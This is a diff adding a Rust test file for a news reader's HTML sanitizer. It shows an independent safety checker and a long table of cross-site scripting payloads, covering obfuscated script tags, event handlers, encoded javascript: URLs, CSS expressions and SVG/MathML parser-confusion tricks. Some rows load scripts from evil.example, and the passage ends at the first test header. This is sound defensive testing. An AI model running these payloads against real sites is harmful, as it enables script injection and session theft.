@@ -1,0 +1,1225 @@
+//! Hostile post HTML must come out of `sanitize_html` with no way left to run code.
+//!
+//! The UI sets the sanitizer's output as `innerHTML`, so that is what these tests check, and they check it
+//! without trusting the sanitizer: the output is parsed again with html5ever, the way a browser parses
+//! `innerHTML` (a fragment inside a `<div>`, scripting on) and, for good measure, as a whole document. Then
+//! every element and attribute of both trees is held against a policy written here, separately from the one
+//! in `src-tauri/sanitize.rs`: no element that runs, loads or submits anything, no foreign (SVG/MathML)
+//! element at all, no event handler, no style, and every URL absolute http(s) with two narrow exceptions.
+//!
+//! On top of the tree walk, the raw output must not spell `javascript:`, `vbscript:` or `<script` anywhere,
+//! even with its whitespace removed. That check is deliberately blunt: it would also flag those words in
+//! harmless text or a `title`, so the hostile rows below keep their payloads out of plain text and out of
+//! `title`/`alt` values, and the random generator never puts URLs there either.
+
+use html5ever::tendril::TendrilSink;
+use html5ever::{Attribute, ParseOpts, QualName, local_name, ns, parse_document, parse_fragment};
+use markup5ever_rcdom::{Handle, NodeData, RcDom};
+use offprint::sanitize::sanitize_html;
+use proptest::prelude::*;
+use proptest::sample::{Index, select};
+use url::Url;
+
+const BASE: &str = "https://news.example.org/2026/11/story.html";
+
+fn clean(html: &str) -> String {
+    let base = Url::parse(BASE).unwrap();
+    sanitize_html(html, Some(&base))
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// The checker: it knows nothing of the sanitizer, only what may be in HTML given to innerHTML.
+// ---------------------------------------------------------------------------------------------------------
+
+/// Elements that run script, load documents or plugins, change the page's base or refresh it, submit data,
+/// hold raw text, or switch the parser to a foreign namespace.
+const FORBIDDEN_ELEMENTS: &[&str] = &[
+    "script",
+    "style",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "param",
+    "base",
+    "meta",
+    "link",
+    "form",
+    "input",
+    "button",
+    "textarea",
+    "select",
+    "option",
+    "isindex",
+    "keygen",
+    "svg",
+    "math",
+    "template",
+    "noscript",
+    "noembed",
+    "noframes",
+    "xmp",
+    "plaintext",
+    "title",
+    "portal",
+    "dialog",
+    "area",
+    "map",
+    "marquee",
+];
+
+/// Attributes that run code, carry CSS, load or submit somewhere we do not check, or are SVG/MathML-only
+/// ways to set a link. (`on*` is handled separately.)
+const FORBIDDEN_ATTRIBUTES: &[&str] = &[
+    "style",
+    "srcdoc",
+    "formaction",
+    "action",
+    "xlink:href",
+    "background",
+    "lowsrc",
+    "dynsrc",
+    "data",
+    "codebase",
+    "classid",
+    "archive",
+    "ping",
+    "manifest",
+    "longdesc",
+    "usemap",
+    "attributename",
+    "values",
+    "from",
+    "to",
+    "by",
+    "is",
+    "xmlns",
+    "http-equiv",
+    "target",
+];
+
+const RASTER_DATA_PREFIXES: &[&str] = &[
+    "data:image/png;base64,",
+    "data:image/gif;base64,",
+    "data:image/jpeg;base64,",
+    "data:image/webp;base64,",
+    "data:image/avif;base64,",
+];
+
+/// Everything in `output` that could run code once it is set as innerHTML; empty when it is safe.
+fn problems(output: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    let squashed: String = output.chars().filter(|c| !c.is_whitespace()).collect::<String>().to_lowercase();
+    for needle in ["javascript:", "vbscript:", "<script"] {
+        if squashed.contains(needle) {
+            found.push(format!("raw output spells {needle:?}"));
+        }
+    }
+    check_node(&parse_as_inner_html(output).document, &mut found);
+    check_node(&parse_as_document(output).document, &mut found);
+    found.dedup();
+    found
+}
+
+/// Parses like `div.innerHTML = html` in a page with scripting enabled (as the app's webview is).
+fn parse_as_inner_html(html: &str) -> RcDom {
+    let context = QualName::new(None, ns!(html), local_name!("div"));
+    parse_fragment(RcDom::default(), ParseOpts::default(), context, vec![], true).one(html)
+}
+
+fn parse_as_document(html: &str) -> RcDom {
+    parse_document(RcDom::default(), ParseOpts::default()).one(html)
+}
+
+fn check_node(node: &Handle, found: &mut Vec<String>) {
+    if let NodeData::Element { name, attrs, template_contents, .. } = &node.data {
+        let tag = name.local.to_ascii_lowercase().to_string();
+        if name.ns != ns!(html) {
+            found.push(format!("<{tag}> in foreign namespace {}", name.ns));
+        }
+        if FORBIDDEN_ELEMENTS.contains(&tag.as_str()) {
+            found.push(format!("forbidden element <{tag}>"));
+        }
+        for attr in attrs.borrow().iter() {
+            check_attribute(&tag, attr, found);
+        }
+        if let Some(contents) = template_contents.borrow().as_ref() {
+            check_node(contents, found);
+        }
+    }
+    for child in node.children.borrow().iter() {
+        check_node(child, found);
+    }
+}
+
+fn check_attribute(tag: &str, attr: &Attribute, found: &mut Vec<String>) {
+    let local = attr.name.local.to_ascii_lowercase().to_string();
+    let name = match &attr.name.prefix {
+        Some(prefix) => format!("{prefix}:{local}"),
+        None => local,
+    };
+    let value: &str = &attr.value;
+    if attr.name.ns != ns!() {
+        found.push(format!("<{tag}> has namespaced attribute {name}"));
+    }
+    if name.starts_with("on") {
+        found.push(format!("<{tag}> has event handler {name}={value:?}"));
+    }
+    if FORBIDDEN_ATTRIBUTES.contains(&name.as_str()) {
+        found.push(format!("<{tag}> has forbidden attribute {name}={value:?}"));
+    }
+    match name.as_str() {
+        "href" | "src" | "poster" => check_url(tag, &name, value, found),
+        "srcset" => {
+            for candidate in srcset_urls(value) {
+                check_url(tag, "srcset", &candidate, found);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// A URL attribute must be absolute http(s); `mailto:` only on a link, a base64 raster image only in
+/// `img[src]`. Parsing with the `url` crate strips what a browser strips (outer C0/space, inner tab/newline).
+fn check_url(tag: &str, attr: &str, value: &str, found: &mut Vec<String>) {
+    let url = match Url::parse(value) {
+        Ok(url) => url,
+        Err(err) => {
+            found.push(format!("<{tag} {attr}={value:?}> is not an absolute URL ({err})"));
+            return;
+        }
+    };
+    let ok = match url.scheme() {
+        "http" | "https" => url.host_str().is_some_and(|h| !h.is_empty()),
+        "mailto" => tag == "a" && attr == "href",
+        "data" => {
+            let lower = url.as_str().to_ascii_lowercase();
+            tag == "img" && attr == "src" && RASTER_DATA_PREFIXES.iter().any(|p| lower.starts_with(p))
+        }
+        _ => false,
+    };
+    if !ok {
+        found.push(format!("<{tag} {attr}={value:?}> has a disallowed URL"));
+    }
+}
+
+/// The URL of every `srcset` candidate, split the way the HTML standard does it: a URL runs to the next
+/// whitespace (trailing commas end the candidate), descriptors run to the next comma outside parentheses.
+fn srcset_urls(value: &str) -> Vec<String> {
+    let is_space = |c: char| matches!(c, '\t' | '\n' | '\x0c' | '\r' | ' ');
+    let chars: Vec<char> = value.chars().collect();
+    let mut urls = Vec::new();
+    let mut i = 0;
+    loop {
+        while i < chars.len() && (is_space(chars[i]) || chars[i] == ',') {
+            i += 1;
+        }
+        if i >= chars.len() {
+            return urls;
+        }
+        let start = i;
+        while i < chars.len() && !is_space(chars[i]) {
+            i += 1;
+        }
+        let raw: String = chars[start..i].iter().collect();
+        if raw.ends_with(',') {
+            urls.push(raw.trim_end_matches(',').to_string());
+            continue;
+        }
+        urls.push(raw);
+        let mut in_parens = false;
+        while i < chars.len() {
+            match chars[i] {
+                '(' => in_parens = true,
+                ')' => in_parens = false,
+                ',' if !in_parens => break,
+                _ => {}
+            }
+            i += 1;
+        }
+    }
+}
+
+/// Runs every row through the sanitizer and the checker; returns one report per failing row.
+fn failures<'a>(rows: impl IntoIterator<Item = (&'a str, String)>) -> Vec<String> {
+    rows.into_iter()
+        .filter_map(|(name, input)| {
+            let output = clean(&input);
+            let found = problems(&output);
+            (!found.is_empty()).then(|| format!("{name}: {found:?}\n    in:  {input:?}\n    out: {output:?}"))
+        })
+        .collect()
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// The hostile table.
+// ---------------------------------------------------------------------------------------------------------
+
+const HOSTILE: &[(&str, &str)] = &[
+    // <script> in its disguises.
+    ("plain script", "<script>alert(1)</script>"),
+    ("script src", "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>"),
+    ("mixed-case script", "<ScRiPt>alert(1)</sCrIpT>"),
+    ("script with slash before attribute", "<script/src=\"https://evil.example/x.js\"></script>"),
+    ("script with tab and newline in tag", "<script\t\n>alert(1)</script>"),
+    ("script with form feed", "<script\x0csrc=//evil.example/x.js></script>"),
+    ("script with null after name", "<script\0>alert(1)</script>"),
+    ("null inside script tag name", "<scr\0ipt>alert(1)</scr\0ipt>"),
+    ("double open bracket", "<<script>alert(1);//<</script>"),
+    ("unclosed script", "<script>alert(1)"),
+    ("script with no closing bracket", "<script src=https://evil.example/x.js?<b>"),
+    ("nested script tags", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
+    ("script split by comment", "<script>/*</script><script>*/alert(1)</script>"),
+    ("script attribute holding >", "<SCRIPT a=\">\" SRC=\"https://evil.example/xss.js\"></SCRIPT>"),
+    ("script with =\">\" attribute", "<SCRIPT =\">\" SRC=\"https://evil.example/xss.js\"></SCRIPT>"),
+    ("script with quoted junk", "<SCRIPT \"a='>'\" SRC=\"https://evil.example/xss.js\"></SCRIPT>"),
+    ("script type attribute", "<script type=\"text/javascript\">alert(1)</script>"),
+    ("script in table", "<table><tr><td>a</td></tr><script>alert(1)</script></table>"),
+    ("script in select", "<select><option>a</option><script>alert(1)</script></select>"),
+    ("script writing markup", "<div><script>document.write('<img src=x onerror=alert(1)>')</script></div>"),
+    ("conditional comment script", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
+    ("leading end tag then script", "</script><script>alert(1)</script>"),
+    ("script inside svg", "<svg><script>alert(1)</script></svg>"),
+    ("svg script with href", "<svg><script xlink:href=\"data:,alert(1)\"/></svg>"),
+    ("script inside math", "<math><script>alert(1)</script></math>"),
+    ("script in svg cdata", "<svg><![CDATA[<script>]]>alert(1)<![CDATA[</script>]]></svg>"),
+    ("script after svg namespace", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
+    ("script in head", "<head><script>alert(1)</script></head><p>x</p>"),
+    (
+        "script joined by removed pixels",
+        "<<img src=t.gif width=1 height=1>script>alert(1)<<img src=t.gif width=1 height=1>/script>",
+    ),
+    // Event handlers on many elements.
+    ("img onerror", "<img src=x onerror=alert(1)>"),
+    ("img onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
+    ("img mixed-case handler", "<img src=x OnErRoR=alert(1)>"),
+    ("img handler after slashes", "<img/src=x/onerror=alert(1)>"),
+    ("img handler with vertical tab", "<img src=x onerror\x0b=alert(1)>"),
+    ("img handler unterminated", "<img src=x onerror=alert(1)//"),
+    ("img src eval alt", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
+    ("img onload and onerror", "<img src=x onload=alert(1) onerror=alert(2)>"),
+    ("img malformed quotes", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">"),
+    ("img handler entity-encoded", "<img src=x onerror=\"&#0000097&#0000108&#0000101&#0000114&#0000116(1)\">"),
+    ("image alias", "<image src=x onerror=alert(1)>"),
+    ("body onload", "<body onload=alert(1)><p>x</p>"),
+    ("html onmouseover", "<html onmouseover=alert(1)><p>x</p></html>"),
+    ("p onclick", "<p onclick=\"alert(1)\">x</p>"),
+    ("p handler after slash", "<p/onclick=alert(1)>x</p>"),
+    ("link onmouseover", "<a href=\"https://ok.example/\" onmouseover=alert(1)>x</a>"),
+    ("link handler after slash", "<a href=\"https://ok.example/\" / onclick=alert(1)>x</a>"),
+    ("div onpointerenter", "<div onpointerenter=alert(1)>x</div>"),
+    ("video onerror", "<video src=x onerror=alert(1)></video>"),
+    ("video source onerror", "<video><source onerror=\"alert(1)\"></video>"),
+    ("audio onerror", "<audio src=x onerror=alert(1)></audio>"),
+    ("details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>"),
+    ("input autofocus onfocus", "<input autofocus onfocus=alert(1)>"),
+    ("marquee onstart", "<marquee onstart=alert(1)>x</marquee>"),
+    ("svg onload", "<svg onload=alert(1)>"),
+    ("svg slash onload", "<svg/onload=alert(1)>"),
+    ("td onmouseover", "<table><tr><td onmouseover=alert(1)>x</td></tr></table>"),
+    ("span onanimationstart", "<span onanimationstart=alert(1) style=\"animation-name:x\">x</span>"),
+    ("time onfocusin", "<time onfocusin=alert(1) tabindex=1>x</time>"),
+    ("h1 onbeforecopy", "<h1 onbeforecopy=alert(1)>x</h1>"),
+    ("custom element handler", "<xss onafterscriptexecute=alert(1)>x</xss>"),
+    ("picture source onerror", "<picture><source srcset=x onerror=alert(1)><img src=x></picture>"),
+    ("track onerror", "<video><track src=x onerror=alert(1)></video>"),
+    ("keygen onfocus", "<keygen autofocus onfocus=alert(1)>"),
+    ("frameset onload", "<frameset onload=alert(1)>"),
+    ("dialog onclose", "<dialog open onclose=alert(1)>x</dialog>"),
+    ("blockquote oncopy", "<blockquote oncopy=alert(1)>x</blockquote>"),
+    ("li onclick in list", "<ul><li onclick=alert(1)>x</li></ul>"),
+    ("img onerror running js url", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>"),
+    ("isindex handler", "<isindex type=image src=1 onerror=alert(1)>"),
+    // Script schemes in links.
+    ("href javascript", "<a href=\"javascript:alert(1)\">x</a>"),
+    ("href upper-case javascript", "<a href=\"JAVASCRIPT:alert(1)\">x</a>"),
+    ("href unquoted javascript", "<a href=javascript:alert(1)>x</a>"),
+    ("href spaced equals", "<a href = javascript:alert(1)>x</a>"),
+    ("href leading spaces", "<a href=\"  javascript:alert(1)\">x</a>"),
+    ("href leading control char", "<a href=\"\x01javascript:alert(1)\">x</a>"),
+    ("href leading form feed entity", "<a href=\" &#14;  javascript:alert(1)\">x</a>"),
+    ("href tab entity", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
+    ("href newline entity", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>"),
+    ("href carriage return entity", "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>"),
+    ("href literal tab", "<a href=\"jav\tascript:alert(1)\">x</a>"),
+    ("href named tab and newline", "<a href=\"java&Tab;scr&NewLine;ipt:alert(1)\">x</a>"),
+    ("href decimal entity first char", "<a href=\"&#106;avascript:alert(1)\">x</a>"),
+    (
+        "href hex entities",
+        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
+    ),
+    (
+        "href padded entities no semicolons",
+        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
+    ),
+    ("href entity mid-scheme", "<a href=\"javas&#99;ript:alert(1)\">x</a>"),
+    ("href colon entity", "<a href=\"javascript&colon;alert(1)\">x</a>"),
+    ("href decimal colon", "<a href=\"javascript&#58;alert(1)\">x</a>"),
+    ("href hex colon", "<a href=\"javascript&#x3A;alert(1)\">x</a>"),
+    ("href null mid-scheme", "<a href=\"java\0script:alert(1)\">x</a>"),
+    ("href null entity mid-scheme", "<a href=\"java&#0;script:alert(1)\">x</a>"),
+    ("href leading null", "<a href=\"\0javascript:alert(1)\">x</a>"),
+    ("href percent-encoded first char", "<a href=\"%6Aavascript:alert(1)\">x</a>"),
+    ("href percent-encoded colon", "<a href=\"javascript%3Aalert(1)\">x</a>"),
+    ("href javascript comment newline", "<a href=\"javascript://%0Aalert(1)\">x</a>"),
+    ("href javascript posing as https", "<a href=\"javascript://https://ok.example/%0aalert(1)\">x</a>"),
+    ("href backticks", "<a href=`javascript:alert(1)`>x</a>"),
+    ("href duplicate attribute", "<a href=\"javascript:alert(1)\" href=\"https://ok.example/\">x</a>"),
+    ("href vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>"),
+    ("href upper-case vbscript", "<a href=\"VBSCRIPT:msgbox(1)\">x</a>"),
+    ("href livescript", "<a href=\"livescript:alert(1)\">x</a>"),
+    ("href data html base64", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
+    ("href data html plain", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>"),
+    ("href upper-case data", "<a href=\" DATA:text/html,<script>alert(1)</script>\">x</a>"),
+    ("href data svg", "<a href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">x</a>"),
+    ("href credentials spelling javascript", "<a href=\"https://javascript:alert(1)@ok.example/\">x</a>"),
+    ("href path spelling javascript", "<a href=\"/javascript:alert(1)\">x</a>"),
+    ("mailto spelling javascript", "<a href=\"mailto:javascript:alert(1)\">x</a>"),
+    (
+        "href polyglot",
+        "<a href=\"jaVasCript:/*-/*`/*\\`/*'/*&quot;/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e\">x</a>",
+    ),
+    // Script schemes in every other URL-carrying attribute.
+    ("img src javascript", "<img src=\"javascript:alert(1)\">"),
+    ("img src mixed case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
+    ("img src with quot entities", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>"),
+    ("img src backticks", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
+    ("img src spaced scheme", "<IMG SRC=\"jav   ascript:alert('XSS');\">"),
+    (
+        "img src data with smuggled type",
+        "<img src=\"data:image/png;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+    ),
+    ("img src data with look-alike type", "<img src=\"data:image/pngx;base64,PHNjcmlwdD4=\">"),
+    ("img src data svg", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
+    ("img src vbscript", "<img src=\"vbscript:msgbox(1)\">"),
+    ("img dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">"),
+    ("img lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">"),
+    ("img srcset javascript", "<img srcset=\"javascript:alert(1)\">"),
+    ("srcset javascript after comma", "<img src=a.jpg srcset=\"https://ok.example/a.jpg 1x, javascript:alert(1) 2x\">"),
+    ("srcset javascript glued by comma", "<img srcset=\"https://ok.example/a.jpg 1x,javascript:alert(1) 2x\">"),
+    ("srcset javascript inside url", "<img srcset=\"https://ok.example/a.jpg,javascript:alert(1) 2x\">"),
+    ("srcset javascript in parens", "<img srcset=\"a.jpg (1x, javascript:alert(1)) 2x\">"),
+    ("srcset entity-obfuscated", "<img srcset=\"a.jpg 1x, jav&#x09;ascript:alert(1) 2x\">"),
+    ("picture source srcset", "<picture><source srcset=\"javascript:alert(1)\"><img src=a.jpg></picture>"),
+    ("video source src", "<video><source src=\"javascript:alert(1)\"></video>"),
+    ("video poster javascript", "<video poster=\"javascript:alert(1)\"></video>"),
+    ("video poster data html", "<video poster=\"data:text/html,<script>alert(1)</script>\"></video>"),
+    ("video src vbscript", "<video src=\"vbscript:msgbox(1)\"></video>"),
+    ("audio src javascript", "<audio src=\"javascript:alert(1)\"></audio>"),
+    ("track src javascript", "<video><track src=\"javascript:alert(1)\"></video>"),
+    ("button formaction", "<button formaction=\"javascript:alert(1)\">X</button>"),
+    ("input formaction", "<form><input type=submit formaction=javascript:alert(1)></form>"),
+    ("form action", "<form action=\"javascript:alert(1)\"><input type=submit></form>"),
+    ("input image src", "<input type=\"image\" src=\"javascript:alert(1)\">"),
+    ("isindex action", "<isindex action=\"javascript:alert(1)\" type=image>"),
+    ("table background", "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>"),
+    ("td background", "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>"),
+    ("body background", "<body background=\"javascript:alert(1)\">"),
+    ("xlink href on html element", "<a xlink:href=\"javascript:alert(1)\">x</a>"),
+    ("blockquote cite", "<blockquote cite=\"javascript:alert(1)\">x</blockquote>"),
+    (
+        "area href",
+        "<img src=a.jpg usemap=#m><map name=m><area href=\"javascript:alert(1)\" shape=rect coords=0,0,9,9></map>",
+    ),
+    ("link ping", "<a href=\"https://ok.example/\" ping=\"https://evil.example/\">x</a>"),
+    // Plugins, frames and documents inside documents.
+    ("object data javascript", "<object data=\"javascript:alert(1)\"></object>"),
+    ("object data html", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
+    ("object param", "<object><param name=src value=javascript:alert(1)></object>"),
+    ("embed javascript", "<embed src=\"javascript:alert(1)\">"),
+    ("embed svg", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">"),
+    ("applet", "<applet code=\"Evil.class\" codebase=\"https://evil.example/\"></applet>"),
+    ("iframe javascript", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
+    ("iframe spaced javascript", "<iframe src=\" javascript:alert(1)\"></iframe>"),
+    ("iframe data html", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>"),
+    ("iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
+    ("iframe srcdoc escaped", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>"),
+    (
+        "iframe srcdoc beside a good src",
+        "<iframe src=\"https://video.example/embed/1\" srcdoc=\"<script>alert(1)</script>\" onload=alert(1)></iframe>",
+    ),
+    ("iframe with script inside", "<iframe src=\"https://video.example/embed/1\"><script>alert(1)</script></iframe>"),
+    (
+        "iframe src breaking out with entities",
+        "<iframe src=\"https://video.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
+    ),
+    (
+        "iframe src breaking out with quotes",
+        "<iframe src='https://video.example/\"><script>alert(1)</script>'></iframe>",
+    ),
+    ("iframe entity-obfuscated src", "<iframe src=\"jav&#x61;script:alert(1)\"></iframe>"),
+    ("frameset frame", "<frameset><frame src=\"javascript:alert(1)\"></frameset>"),
+    ("portal", "<portal src=\"https://evil.example/\"></portal>"),
+    // The page's own plumbing.
+    ("base href javascript", "<base href=\"javascript:alert(1)//\"><a href=\"/x\">x</a>"),
+    ("base href elsewhere", "<base href=\"https://evil.example/\"><a href=\"x\">x</a>"),
+    ("meta refresh javascript", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1);\">"),
+    (
+        "meta refresh data",
+        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
+    ),
+    ("meta set-cookie", "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">"),
+    ("meta csp", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">"),
+    ("link import", "<link rel=\"import\" href=\"https://evil.example/x.html\">"),
+    ("link stylesheet javascript", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"),
+    ("link preload script", "<link rel=preload as=script href=https://evil.example/x.js>"),
+    // CSS.
+    ("style element url javascript", "<style>body{background:url(\"javascript:alert(1)\")}</style><p>x</p>"),
+    ("style element import", "<style>@import 'https://evil.example/x.css';</style>"),
+    ("style element escaped import", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>"),
+    (
+        "style list-style-image",
+        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    ),
+    ("style expression", "<style>*{x:expression(alert(1))}</style>"),
+    ("style binding", "<style>p{-moz-binding:url(https://evil.example/xss.xml#xss)}</style>"),
+    ("style attribute expression", "<div style=\"width: expression(alert(1));\">x</div>"),
+    ("style attribute commented expression", "<img src=a.jpg style=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
+    ("style attribute url javascript", "<p style=\"background:url(javascript:alert(1))\">x</p>"),
+    ("style attribute url with control char", "<p style=\"background:url(&#1;javascript:alert(1))\">x</p>"),
+    ("style attribute binding", "<div style=\"-moz-binding:url(https://evil.example/xss.xml#xss)\">x</div>"),
+    ("style attribute behavior", "<div style=\"behavior: url(https://evil.example/x.htc)\">x</div>"),
+    ("style attribute escaped", "<div style=\"background:\\75\\72\\6c(javascript:alert(1))\">x</div>"),
+    ("style attribute on custom element", "<xss style=\"xss:expression(alert('XSS'))\">x</xss>"),
+    // SVG and MathML.
+    (
+        "svg animate href",
+        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
+    ),
+    ("svg set href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text>Click</text></a></svg>"),
+    ("svg a xlink href", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"),
+    (
+        "svg use data",
+        "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==#x\"/></svg>",
+    ),
+    ("svg image href", "<svg><image href=\"javascript:alert(1)\"/></svg>"),
+    ("svg animate onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+    ("svg discard onbegin", "<svg><discard onbegin=alert(1)>"),
+    (
+        "svg foreignObject iframe",
+        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
+    ),
+    ("svg style breaking out to img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
+    ("svg title integration point", "<svg><title><img src=x onerror=alert(1)></title></svg>"),
+    ("svg desc integration point", "<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>"),
+    ("svg p style confusion", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
+    ("math mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    (
+        "math mglyph style comment",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">",
+    ),
+    ("math form confusion", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
+    ("math malignmark", "<math><mtext><table><malignmark><style><img src=x onerror=alert(1)>"),
+    ("math href", "<math href=\"javascript:alert(1)\">x</math>"),
+    ("math mi xlink", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">"),
+    ("math maction", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>"),
+    (
+        "math annotation-xml html",
+        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
+    ),
+    (
+        "math nested svg mtext",
+        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
+    ),
+    ("svg inside table", "<table><tr><td><svg><foreignObject><p><style><img src onerror=alert(1)>"),
+    // Raw-text and escapable-text elements, comments, CDATA: parser-differential (mutation) tricks.
+    ("noscript title breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
+    ("noscript style breakout", "<noscript><style></noscript><img src=x onerror=alert(1)>"),
+    ("template script", "<template><script>alert(1)</script></template>"),
+    ("template img", "<template><img src=x onerror=alert(1)></template>"),
+    ("select template style", "<select><template><style><img src=x onerror=alert(1)>"),
+    ("comment hiding a quote", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
+    ("bang comment end", "<!-- --!><img src=x onerror=alert(1)> -->"),
+    ("empty comment", "<!--><img src=x onerror=alert(1)>-->"),
+    ("dash comment", "<!---><img src=x onerror=alert(1)>-->"),
+    ("bogus comment", "<!a><img src=x onerror=alert(1)>"),
+    ("processing instruction", "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?><img src=x onerror=alert(1)>"),
+    ("cdata script", "<![CDATA[<script>alert(1)</script>]]>"),
+    ("cdata img", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
+    ("xmp breakout", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>"),
+    ("plaintext", "<plaintext><script>alert(1)</script>"),
+    ("textarea script", "<textarea><script>alert(1)</script></textarea>"),
+    ("textarea breakout", "<textarea></textarea><img src=x onerror=alert(1)>"),
+    ("textarea title breakout", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"),
+    ("title element", "<title><img src=x onerror=alert(1)></title>"),
+    ("noembed breakout", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>"),
+    ("noframes breakout", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>"),
+    ("iframe text breakout", "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>"),
+    ("style text breakout", "<style><img title=\"</style><img src=x onerror=alert(1)>\"></style>"),
+    ("title attribute closing comment", "<div title=\"--><img src=x onerror=alert(1)>\">x</div>"),
+    (
+        "title attribute closing element",
+        "<a href=\"https://ok.example/\" title=\"</a><script>alert(1)</script>\">x</a>",
+    ),
+    ("alt attribute with markup", "<img src=a.jpg alt=\"<script>alert(1)</script>\">"),
+    ("unclosed attribute", "<img src=\"x onerror=alert(1)//"),
+    ("unclosed tag at end", "<img src=x onerror=alert(1)"),
+    ("unclosed handler value", "<a href=\"https://ok.example/\" title='x' onclick=\"alert(1)"),
+    ("backtick attributes", "<img src=`x` onerror=`alert(1)`>"),
+    ("attribute name with quote", "<img src=x \"onerror=alert(1)>"),
+    ("self-closing p with handler", "<p onclick=alert(1)/ >x</p>"),
+    ("unknown element keeps no attributes", "<foo href=\"javascript:alert(1)\" onclick=alert(1)>x</foo>"),
+    ("custom element is attribute", "<p is=\"evil-element\">x</p>"),
+    ("dom clobbering form", "<form name=body><input name=cookie></form>"),
+];
+
+// ---------------------------------------------------------------------------------------------------------
+// Tests.
+// ---------------------------------------------------------------------------------------------------------
+
+#[test]
+fn no_hostile_input_yields_a_way_to_run_code() {
